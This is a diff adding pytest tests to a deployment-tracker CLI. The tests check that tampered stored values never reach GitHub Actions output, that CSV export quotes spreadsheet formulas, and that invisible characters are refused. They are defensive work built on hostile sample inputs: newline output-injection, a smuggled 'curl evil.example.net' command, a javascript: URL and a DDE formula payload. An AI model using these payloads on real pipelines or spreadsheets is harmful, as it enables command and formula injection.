@@ -8,6 +8,8 @@ before the redesign (d6fa876).
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -21,7 +23,7 @@ from typing import Any
 
 import pytest
 from click.testing import Result
-from helpers import ok, record, run_tracker, sha
+from helpers import ok, parse_github_output, record, run_tracker, sha
 
 import deployment_tracker as dt
 
@@ -570,3 +572,90 @@ def test_a_current_database_is_checked_without_rebuilding_the_schema(
     dt.connect(str(db_path), write=False).close()
     dt.connect(str(db_path), write=True).close()
     assert ":memory:" not in opened and len(opened) == 2
+
+
+# -- stored values are checked before they decide or are handed on (issue 17) ---------------
+
+TAMPERED = {
+    # A newline would start another output for a step that writes the tag on with echo.
+    "image_tag": "good\nimage=evil.example.net/app:1",
+    "branch": "main\nimage=evil.example.net/app:1",
+    "commit_sha": "deadbeef; curl evil.example.net",
+    "deployed_at": "yesterday",
+    "run_url": "javascript:alert(1)",
+    "rollback_of": "main_aaaaaaa_20260101000000\nimage=evil",
+}
+
+
+@pytest.mark.parametrize("field", sorted(TAMPERED))
+@pytest.mark.parametrize("command", ["rollback-target", "promote"])
+def test_a_tampered_value_never_decides_or_reaches_github_output(
+    cli: Callable[..., Result], db_path: Path, tmp_path: Path, field: str, command: str
+) -> None:
+    older = record(cli, "staging", "main", sha("a", 1))
+    newer = record(cli, "staging", "main", sha("b", 1))
+    for deployment_id in (older, newer):
+        ok(cli("verify", "--id", deployment_id, "--status", "verified"))
+    # rollback-target would pick the older one, promote the newer one.
+    chosen = older if command == "rollback-target" else newer
+    args = ["-e", "staging"] if command == "rollback-target" else []
+    output = tmp_path / "github_output"
+    output.touch()
+    clean = cli(command, *args, "--github-output", env={"GITHUB_OUTPUT": str(output)})
+    assert clean.exit_code == 0, clean.output
+    assert parse_github_output(output.read_text())["id"] == chosen
+    output.write_text("")
+    craft_values(db_path, chosen, {field: TAMPERED[field]})
+    for extra in (["--github-output"], ["--field", "image_tag"], []):
+        result = cli(command, *args, *extra, env={"GITHUB_OUTPUT": str(output)})
+        assert result.exit_code == 1, (extra, result.output)
+        assert result.stdout == ""
+        assert result.stderr.startswith("Error: the history was altered: deployment")
+        assert f"has a {field} the tracker never writes" in result.stderr
+        assert result.stderr.count("\n") == 1
+        assert "evil" not in result.stderr.replace("\\n", "")[: result.stderr.find("(")]
+    assert output.read_text() == ""
+
+
+def craft_values(db_path: Path, deployment_id: str, values: dict[str, str]) -> None:
+    assignments = ", ".join(f"{field} = :{field}" for field in values)
+    craft_with = {**values, "id": deployment_id}
+    with closing(sqlite3.connect(db_path, isolation_level=None)) as db:
+        db.execute("PRAGMA foreign_keys = OFF")
+        db.execute(f"UPDATE deployments SET {assignments} WHERE id = :id", craft_with)
+    for suffix in ("-wal", "-shm"):
+        Path(f"{db_path}{suffix}").unlink(missing_ok=True)
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
+    cli: Callable[..., Result], db_path: Path
+) -> None:
+    deployment_id = record(
+        cli, "staging", "main", sha("a", 1), "--actor", "@SUM(A1)", "--note", "=1+1"
+    )
+    craft_values(db_path, deployment_id, {"verified_by": "+cmd|' /C calc'!A0"})
+    rows = list(csv.DictReader(io.StringIO(shown(cli("list", "-o", "csv")))))
+    assert rows[0]["actor"] == "'@SUM(A1)"
+    assert rows[0]["note"] == "'=1+1"
+    assert rows[0]["verified_by"] == "'+cmd|' /C calc'!A0"
+    assert rows[0]["id"] == deployment_id
+    # TSV stays exact (for scripts), and so does JSON.
+    tsv = shown(cli("list", "-o", "tsv")).splitlines()
+    assert tsv[1].split("\t")[dt.FIELDS.index("note")] == "=1+1"
+    assert json.loads(shown(cli("get", deployment_id, "-o", "json")))["actor"] == "@SUM(A1)"
+
+
+@pytest.mark.parametrize("mark", ["\u200b", "\u2060", "\ufeff", "\U000e0041", "\u00ad"])
+def test_invisible_format_characters_are_refused_in_input_and_escaped_in_output(
+    cli: Callable[..., Result], db_path: Path, mark: str
+) -> None:
+    refused = cli("record", "-e", "staging", "-b", f"main{mark}", "-c", sha("a", 1))
+    assert refused.exit_code == 2
+    assert "branch must not contain control or bidi characters" in refused.stderr
+    assert not db_path.exists()
+    deployment_id = record(cli, "staging", "main", sha("a", 1))
+    craft_values(db_path, deployment_id, {"actor": f"ad{mark}min", "note": f"fine{mark}"})
+    for args in (["list", "--wide"], ["get", deployment_id], ["list", "-o", "csv"]):
+        text = shown(cli(*args))
+        assert mark not in text, args
+        assert ascii(mark)[1:-1] in text, args
